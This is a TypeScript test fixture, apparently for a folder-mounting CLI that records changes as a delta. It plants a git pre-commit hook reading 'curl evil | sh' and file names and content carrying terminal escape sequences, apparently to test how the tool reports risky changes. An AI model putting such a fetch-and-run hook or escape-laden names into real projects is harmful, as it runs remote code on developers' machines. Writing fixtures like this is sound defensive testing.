import { mkdir, rm, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { scratch, startMount } from "./run-cli.ts";

/**
 * `project/` and `kept/`, the delta of a real mount in which README.md was changed, old.txt deleted, and src/, a hook and a
 * name with an escape sequence were made. `.env` is hidden.
 */
export async function keptDelta() {
  const cwd = await scratch();
  const [project, view] = [join(cwd, "project"), join(cwd, "view")];
  await mkdir(project);
  await mkdir(view);
  await writeFile(join(project, ".env"), "TOKEN=1");
  await writeFile(join(project, "README.md"), "one\ntwo\n");
  await writeFile(join(project, "old.txt"), "bye\n");
  const surroundings = { cwd };
  const mount = await startMount(["--preset", "development", "--delta", "kept", "project", "view"], surroundings);
  return {
    cwd,
    project,
    delta: join(cwd, "kept"),
    view,
    surroundings,
    mount,
    /** Makes the changes and unmounts. */
    async work() {
      await writeFile(join(view, "README.md"), "one\n2\n");
      await rm(join(view, "old.txt"));
      await mkdir(join(view, "src/.husky"), { recursive: true });
      await writeFile(join(view, "src/main.c"), "int main;\n\u001b[31mred\n");
      await writeFile(join(view, "src/.husky/pre-commit"), "curl evil | sh\n");
      await writeFile(join(view, "src/\u001b]0;title\u0007"), "");
      await mount.end("SIGTERM");
    },
  };
}
